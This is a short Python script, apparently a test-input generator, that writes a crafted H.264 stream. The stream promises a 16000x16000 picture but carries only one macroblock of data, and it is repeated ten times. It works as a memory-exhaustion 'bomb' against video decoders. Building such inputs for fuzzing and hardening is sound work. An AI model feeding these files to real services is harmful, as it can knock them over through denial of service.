#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Writes a few bytes of H.264 that promise a picture of 16000x16000: 384 MB a decoded frame.

usage: bomb.py OUTPUT
"""
import sys

from paff import Bits, nal, picture_set


def sequence_set(side):
    b = Bits()
    for count, value in ((8, 77), (8, 0), (8, 62)):
        b.u(count, value)
    for value in (0, 4, 2, 1):  # id, frame_num, POC type 2, references
        b.ue(value)
    b.u(1, 0)
    b.ue(side // 16 - 1)
    b.ue(side // 16 - 1)
    for flag in (1, 1, 0, 0):  # frames only, direct 8x8, no crop, no VUI
        b.u(1, flag)
    b.trailing()
    return nal(3, 7, b.data())


def picture():
    """An IDR slice whose data ends after one macroblock."""
    b = Bits()
    for value in (0, 7, 0):
        b.ue(value)
    b.u(8, 0)
    b.ue(0)
    b.u(2, 0)
    b.se(0)
    b.ue(1)
    b.ue(25)
    b.align()
    out = bytearray(b.data()) + bytes([128]) * 384
    end = Bits()
    end.trailing()
    return nal(3, 5, bytes(out) + end.data())


with open(sys.argv[1], "wb") as f:
    for _ in range(10):
        f.write(nal(0, 9, b"\xf0") + sequence_set(16000) + picture_set() + picture())
